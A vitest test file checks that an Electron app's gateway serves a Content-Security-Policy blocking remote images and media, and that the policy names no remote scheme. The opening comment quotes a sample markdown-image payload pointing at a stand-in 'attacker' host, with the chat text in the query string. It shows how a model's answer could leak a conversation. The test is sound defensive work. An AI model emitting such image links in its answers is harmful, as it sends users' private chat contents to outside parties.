// The app's pages load no remote image or video: a model's answer with `![](https://attacker/?q=<chat text>)` must not
// send anything anywhere. Images and videos come from the gateway itself, data: or blob: URLs.
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { RENDERER_CSP } from '../../../electron/gateway/admin/static-files.js'
import { startGatewayOnTestStore, tempDataDir } from '../../helpers/gateway.js'

/** The directives of a CSP header by name: `img-src 'self' data:` → `{ 'img-src': "img-src 'self' data:" }`. */
const directives = (csp: string | null) => Object.fromEntries((csp ?? '').split(';').map((d) => d.trim()).filter(Boolean).map((d) => [d.split(' ')[0], d]))

describe("the page's Content-Security-Policy", () => {
  const data = tempDataDir()
  const bareData = tempDataDir()
  const renderer = tempDataDir()
  let gw: Awaited<ReturnType<typeof startGatewayOnTestStore>>
  let bare: Awaited<ReturnType<typeof startGatewayOnTestStore>>
  beforeAll(async () => {
    mkdirSync(join(renderer.dir, 'assets'))
    writeFileSync(join(renderer.dir, 'index.html'), '<!doctype html><script type="module" src="/assets/app.js"></script>')
    writeFileSync(join(renderer.dir, 'assets', 'app.js'), 'console.log(1)')
    writeFileSync(join(renderer.dir, 'assets', 'select-worker-Ab1_x-9.js'), 'importScripts("/assets/opencv-1.js")')
    gw = await startGatewayOnTestStore({ dataDir: data.dir, port: 0, rendererDir: renderer.dir })
    // No renderer built: the page saying so carries the same policy.
    bare = await startGatewayOnTestStore({ dataDir: bareData.dir, port: 0, rendererDir: join(renderer.dir, 'missing') })
  })
  afterAll(async () => {
    await Promise.all([gw?.close(1_000), bare?.close(1_000)])
    data.remove()
    bareData.remove()
    renderer.remove()
  })

  it("lets images and videos come only from the gateway, data: and blob: URLs, on every page and file", async () => {
    for (const url of [`${gw.url}/`, `${gw.url}/assets/app.js`, `${gw.url}/assets/select-worker-Ab1_x-9.js`, `${gw.url}/assets/missing.js`, `${bare.url}/`]) {
      const res = await fetch(url)
      await res.arrayBuffer()
      const csp = directives(res.headers.get('content-security-policy'))
      expect([csp['img-src'], csp['media-src'], csp['default-src'], csp['connect-src']], url)
        .toEqual(["img-src 'self' data: blob:", "media-src 'self' data: blob:", "default-src 'self'", "connect-src 'self'"])
    }
  })

  it('names no remote scheme or wildcard in any directive (the desktop window uses the same policy as its fallback)', () => {
    expect(RENDERER_CSP).not.toMatch(/https?:|\*/)
  })
})
